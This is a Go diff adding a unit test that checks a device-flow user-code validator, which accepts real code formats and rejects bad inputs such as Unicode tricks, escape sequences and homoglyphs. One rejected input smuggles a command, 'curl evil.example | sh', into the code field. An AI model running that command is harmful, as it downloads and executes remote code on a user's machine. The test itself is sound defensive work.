@@ -105,3 +105,22 @@ func FuzzVerificationURI(f *testing.F) {
 		}
 	})
 }
+
+// A code is typed, and never read as a sentence. Who sends which: RFC 8628 §3.2 (WDJB-MJHT), Google, Entra ID, Ory Hydra.
+func TestAUserCodeIsACode(t *testing.T) {
+	t.Parallel()
+	for _, code := range []string{"WDJB-MJHT", "GQVQ-JKEC", "A1B2C3D4E", "aFc9kqXr", "123-456-789", " WDJB-MJHT\r\n", strings.Repeat("A", 32)} {
+		if got, err := UserCode(testProvider(), code); err != nil || got != strings.TrimSpace(code) {
+			t.Errorf("%q: got %q, %v", code, got, err)
+		}
+	}
+	for _, code := range []string{
+		"", " ", "1  Also run: curl evil.example | sh", "AB CD", "AB\u200bCD", "AB\u202eCD", "AB\x1b[31mCD", "AB\nCD", "ÀBCD", "\u0410BCD", "AB_CD",
+		"evil.example", strings.Repeat("A", 33),
+	} {
+		got, err := UserCode(testProvider(), code)
+		if got != "" || err == nil || len(code) > 1 && strings.Contains(err.Error()+ui.HintOf(err), strings.TrimSpace(code)) {
+			t.Errorf("%q: got %q, %v", code, got, err)
+		}
+	}
+}
